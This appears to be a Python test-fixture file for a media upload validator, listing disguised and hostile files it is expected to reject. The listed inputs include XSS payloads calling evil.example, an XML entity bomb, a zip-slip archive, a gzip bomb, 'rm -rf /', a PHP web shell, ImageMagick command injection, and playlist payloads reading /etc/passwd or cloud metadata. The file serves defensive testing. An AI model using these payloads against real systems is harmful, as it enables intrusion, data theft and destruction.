"""Files that are something else than their names say, or nothing that is taken here."""

import gzip
import io
import random
import struct
import zipfile

from tests.media.gate.hostile.case import box, case, riff

HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("//evil.example")</script></svg>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]><svg>&m;</svg>"
)
OUTWARD = b'<svg><image href="file:///etc/passwd"/><use href="http://169.254.169.254/latest/meta-data"/></svg>'
M3U8 = b"#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n%s\n#EXT-X-ENDLIST\n"


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/cron.d/evil", "x" * 100_000)
    return out.getvalue()


ZIP = _zip()
EXE = b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + bytes(200)
CASES = [
    case("zero bytes", "nothing.jpg", "empty", b""),
    case("one byte", "one.jpg", "kind", b"\xff"),
    case("zip as jpg", "photo.jpg", "kind", ZIP),
    case("zip as mp4", "film.mp4", "kind", ZIP),
    case("zip by name", "files.zip", "kind", ZIP),
    case("rar as png", "photo.png", "kind", b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    case("7z as mp3", "song.mp3", "kind", b"7z\xbc\xaf\x27\x1c" + bytes(100)),
    case("gzip bomb as wav", "sound.wav", "kind", gzip.compress(bytes(10_000_000))),
    case("exe as png", "photo.png", "kind", EXE),
    case("elf as mp4", "film.mp4", "kind", b"\x7fELF\x02\x01\x01" + bytes(200)),
    case("mach-o as mov", "film.mov", "kind", b"\xcf\xfa\xed\xfe" + bytes(200)),
    case("java class as gif", "a.gif", "kind", b"\xca\xfe\xba\xbe" + bytes(50)),
    case("wasm as webm", "a.webm", "kind", b"\0asm\1\0\0\0" + bytes(50)),
    case("shell script as jpg", "a.jpg", "kind", b"#!/bin/sh\nrm -rf /\n"),
    case("html as jpg", "photo.jpg", "kind", HTML),
    case("html as mp4", "film.mp4", "kind", HTML),
    case("html by name", "page.html", "kind", HTML),
    case("html behind a byte order mark", "a.png", "kind", b"\xef\xbb\xbf \r\n" + HTML),
    case("html in utf-16", "a.png", "kind", b"\xff\xfe" + HTML.decode().encode("utf-16-le")),
    case("svg with script", "drawing.svg", "kind", SVG),
    case("svg with script as png", "drawing.png", "kind", SVG),
    case("svg with outward links", "a.svg", "kind", OUTWARD),
    case("svg behind a comment", "a.jpg", "kind", b"<!-- " + b"x" * 500 + b" -->" + SVG),
    case("svg of a billion laughs", "a.svg", "kind", LAUGHS),
    case("svgz", "drawing.svg", "kind", gzip.compress(SVG)),
    case("pdf as jpg", "scan.jpg", "kind", b"%PDF-1.7\n" + bytes(100)),
    case("postscript as png", "a.png", "kind", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"),
    case("rtf as png", "a.png", "kind", b"{\\rtf1\\ansi}"),
    case("office as mp3", "a.mp3", "kind", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    case("imagemagick script as png", "a.png", "kind", b"push graphic-context\nfill 'url(https://x\"|ls \"-la)'\n"),
    case("xbm as jpg", "a.jpg", "kind", b"#define a_width 16\n#define a_height 7\nstatic char a_bits[] = {0x13};\n"),
    case("php as gif", "a.gif", "damaged|pixels", b"GIF89a<?php system($_GET['c']); ?>"),
    case("playlist over http as mp4", "film.mp4", "kind", M3U8 % b"http://169.254.169.254/latest/meta-data/"),
    case("playlist of a file as mp4", "film.mp4", "kind", M3U8 % b"file:///etc/passwd"),
    case("playlist of concat as webm", "film.webm", "kind", M3U8 % b"concat:/etc/passwd|/etc/shadow"),
    case("playlist of subfile as mov", "film.mov", "kind", M3U8 % b"subfile,,start,0,end,64,,:///etc/passwd"),
    case("playlist of gopher as m3u8", "list.m3u8", "kind", M3U8 % b"gopher://127.0.0.1:6379/_FLUSHALL"),
    case("playlist behind a byte order mark", "film.mp4", "kind", b"\xef\xbb\xbf" + M3U8 % b"http://evil.example/a.ts"),
    case("concat script as mp4", "film.mp4", "kind", b"ffconcat version 1.0\nfile /etc/passwd\n"),
    case("concat script without its head", "film.mp4", "kind", b"file '/etc/passwd'\nduration 5\n"),
    case(
        "dash manifest as mp4",
        "film.mp4",
        "kind",
        b'<?xml version="1.0"?><MPD><BaseURL>http://evil.example/</BaseURL></MPD>',
    ),
    case("sdp as mp4", "film.mp4", "kind", b"v=0\r\no=- 0 0 IN IP4 10.0.0.1\r\nm=video 5004 RTP/AVP 96\r\n"),
    case("pls as mp3", "radio.mp3", "kind", b"[playlist]\nFile1=http://evil.example/\n"),
    case("asx as wav", "a.wav", "kind", b'<asx version="3.0"><entry><ref href="http://evil.example"/></entry></asx>'),
    case("tiff as jpg", "a.jpg", "kind", b"II*\0" + bytes(100)),
    case("bmp as png", "a.png", "kind", b"BM" + bytes(100)),
    case("psd as png", "a.png", "kind", b"8BPS\0\1" + bytes(100)),
    case("icon as png", "a.png", "kind", b"\0\0\1\0\1\0" + bytes(100)),
    case("jpeg 2000 as jpg", "a.jpg", "kind", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(100)),
    case("openexr as png", "a.png", "kind", b"v/1\x01" + bytes(100)),
    case("heic as jpg", "a.jpg", "kind", box(b"ftyp", b"heic\0\0\0\0mif1heic") + bytes(100)),
    case("avif as jpg", "a.jpg", "kind", box(b"ftyp", b"avif\0\0\0\0avifmif1") + bytes(100)),
    case("avi as mp4", "film.mp4", "kind", riff(b"AVI ", bytes(100))),
    case("flv as mp4", "film.mp4", "kind", b"FLV\x01\x05" + bytes(100)),
    case("wmv as mp4", "film.mp4", "kind", b"\x30\x26\xb2\x75\x8e\x66\xcf\x11" + bytes(100)),
    case("mpeg program stream as mp4", "film.mp4", "kind", b"\0\0\1\xba" + bytes(100)),
    case("mpeg transport stream as mp4", "film.mp4", "unknown", (b"G\x40\0\x10" + bytes(184)) * 10),
    case("flash as mp4", "film.mp4", "kind", b"CWS\x0a" + bytes(100)),
    case("mxf as mov", "film.mov", "kind", b"\x06\x0e\x2b\x34" + bytes(100)),
    case("midi as mp3", "song.mp3", "kind", b"MThd\0\0\0\6" + bytes(100)),
    case("amr as mp3", "song.mp3", "kind", b"#!AMR\n" + bytes(100)),
    case("aiff as wav", "a.wav", "kind", b"FORM\0\0\0\x64AIFF" + bytes(100)),
    case("rf64 as wav", "a.wav", "kind", b"RF64\xff\xff\xff\xffWAVE" + bytes(100)),
    case("adts as mp3", "a.mp3", "unknown", b"\xff\xf1\x50\x80\x02\x1f\xfc" + bytes(100)),
    case("font as png", "a.png", "kind", b"wOF2" + bytes(100)),
    case("database as mp4", "a.mp4", "kind", b"SQLite format 3\0" + bytes(100)),
    case("text as mp3", "a.mp3", "kind", b"just words\n" * 50),
    case("noise as mp4", "a.mp4", "unknown", b"\x81" + random.Random(3).randbytes(5000)),
    case("zeros as mp4", "a.mp4", "unknown", bytes(100_000)),
    case("a JPEG called PNG", "a.png", "ending", lambda seeds: seeds["jpg"]),
    case("an MP4 called WebM", "a.webm", "ending", lambda seeds: seeds["mp4"]),
    case("a WebM called MP4", "a.mp4", "ending", lambda seeds: seeds["webm"]),
    case("an MP3 called JPEG", "a.jpg", "ending", lambda seeds: seeds["mp3"]),
    case("a PNG called EXE", "a.exe", "ending", lambda seeds: seeds["png"]),
    case("an MP4 called playlist", "a.m3u8", "kind", lambda seeds: seeds["mp4"]),
    case("a film without an ending", "film", "ending", lambda seeds: seeds["mp4"]),
    case("a WAV head and nothing", "a.wav", "damaged", b"RIFF" + struct.pack("<I", 36) + b"WAVE"),
]
